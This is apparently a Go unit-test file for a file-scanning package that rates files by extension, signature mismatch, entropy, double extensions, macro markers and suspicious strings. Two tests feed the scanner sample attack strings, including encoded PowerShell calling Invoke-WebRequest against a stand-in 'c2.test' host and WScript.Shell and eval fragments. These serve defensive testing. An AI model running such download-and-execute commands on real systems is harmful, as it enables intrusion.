package filescan

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"
)

func TestScan_CleanTextFile(t *testing.T) {
	r := Scan("notes.txt", []byte("shopping list: bread, milk, eggs"))
	if r.Verdict != VerdictSafe {
		t.Fatalf("verdict = %s, want safe (%+v)", r.Verdict, r)
	}
	if r.RiskScore != 0 {
		t.Fatalf("risk = %v, want 0", r.RiskScore)
	}
	if len(r.Reasons) != 1 || !strings.Contains(r.Reasons[0], "No suspicious indicators") {
		t.Fatalf("reasons = %v", r.Reasons)
	}
}

func TestScan_ExecutableExtension(t *testing.T) {
	content := append([]byte("MZ"), make([]byte, 64)...)
	r := Scan("setup.exe", content)
	// 30 points for the extension out of 130 total; signature matches.
	if r.Verdict == VerdictSafe && r.RiskScore < 0.2 {
		t.Fatalf("executable scored too low: %+v", r)
	}
	if r.DetectedType != "PE executable (Windows EXE/DLL)" {
		t.Fatalf("detected = %s", r.DetectedType)
	}
}

func TestScan_DoubleExtension(t *testing.T) {
	content := append([]byte("MZ"), make([]byte, 32)...)
	r := Scan("invoice.pdf.exe", content)
	if r.Verdict == VerdictSafe {
		t.Fatalf("double extension not flagged: %+v", r)
	}
	found := false
	for _, reason := range r.Reasons {
		if strings.Contains(reason, "Double extension") {
			found = true
		}
	}
	if !found {
		t.Fatalf("missing double-extension reason: %v", r.Reasons)
	}
}

func TestScan_DisguisedExecutable(t *testing.T) {
	// PE signature under an image extension.
	content := append([]byte("MZ"), make([]byte, 32)...)
	r := Scan("holiday.png", content)
	found := false
	for _, reason := range r.Reasons {
		if strings.Contains(reason, "signature mismatch") {
			found = true
		}
	}
	if !found {
		t.Fatalf("disguised binary not flagged: %+v", r)
	}
}

func TestScan_MatchingSignatureNotFlagged(t *testing.T) {
	content := append([]byte("%PDF-1.7\n"), []byte("plain document body")...)
	r := Scan("report.pdf", content)
	if r.Verdict != VerdictSafe {
		t.Fatalf("legitimate PDF flagged: %+v", r)
	}
	if r.DetectedType != "PDF document" {
		t.Fatalf("detected = %s", r.DetectedType)
	}
}

func TestScan_HighEntropy(t *testing.T) {
	rnd := rand.New(rand.NewSource(1))
	content := make([]byte, 64<<10)
	rnd.Read(content)
	r := Scan("blob.bin", content)
	if r.Entropy <= 7.5 {
		t.Fatalf("random content entropy = %v, want > 7.5", r.Entropy)
	}
	found := false
	for _, reason := range r.Reasons {
		if strings.Contains(reason, "Very high entropy") {
			found = true
		}
	}
	if !found {
		t.Fatalf("entropy not reported: %v", r.Reasons)
	}
}

func TestScan_SuspiciousStrings(t *testing.T) {
	script := []byte("powershell -enc SQBFAFgA; Invoke-WebRequest http://c2.test/x; cmd.exe /c whoami")
	r := Scan("run.ps1", script)
	// Extension 30 + unidentified signature 5 + strings (3 hits * 8) = 59 of 130.
	if r.Verdict != VerdictSuspicious {
		t.Fatalf("verdict = %s, want suspicious (%+v)", r.Verdict, r)
	}
	if r.RiskScore < 0.4 {
		t.Fatalf("risk = %v, want >= 0.4", r.RiskScore)
	}
}

func TestScan_MacroDocument(t *testing.T) {
	content := bytes.Join([][]byte{
		{0xd0, 0xcf, 0x11, 0xe0},
		[]byte("........VBA.Project.AutoOpen.Shell"),
	}, nil)
	r := Scan("salary.docm", content)
	found := false
	for _, reason := range r.Reasons {
		if strings.Contains(reason, "macro indicators") {
			found = true
		}
	}
	if !found {
		t.Fatalf("macro indicators not reported: %+v", r)
	}
	// Macro extension 20 + indicators 10 of 130.
	if r.RiskScore < 0.2 {
		t.Fatalf("macro document risk = %v, want >= 0.2", r.RiskScore)
	}
}

func TestScan_ArchiveIsOnlyNudged(t *testing.T) {
	content := append([]byte("PK\x03\x04"), make([]byte, 128)...)
	r := Scan("photos.zip", content)
	if r.Verdict != VerdictSafe {
		t.Fatalf("plain archive flagged: %+v", r)
	}
	if r.RiskScore == 0 {
		t.Fatal("archive should still carry a small score")
	}
}

func TestScan_EmptyContent(t *testing.T) {
	r := Scan("empty.txt", nil)
	if r.Entropy != 0 || r.SizeBytes != 0 {
		t.Fatalf("unexpected report for empty file: %+v", r)
	}
	if r.Verdict != VerdictSafe {
		t.Fatalf("verdict = %s", r.Verdict)
	}
}

func TestVerdictTiers(t *testing.T) {
	// A bare dangerous extension with a matching signature earns 30 of
	// 130 points and stays below the suspicious band.
	bare := Scan("tool.exe", []byte("MZ"))
	if bare.Verdict != VerdictSafe || bare.RiskScore == 0 {
		t.Fatalf("bare exe = %s (%v), want safe with nonzero score", bare.Verdict, bare.RiskScore)
	}

	// Dangerous script extension + double extension + suspicious strings
	// crosses the dangerous threshold.
	loaded := Scan("invoice.pdf.vbs", []byte(`CreateObject("WScript.Shell"); powershell -e; cmd.exe; eval(x); base64 -d`))
	if loaded.Verdict != VerdictDangerous {
		t.Fatalf("loaded script verdict = %s (%v), want dangerous", loaded.Verdict, loaded.RiskScore)
	}
}
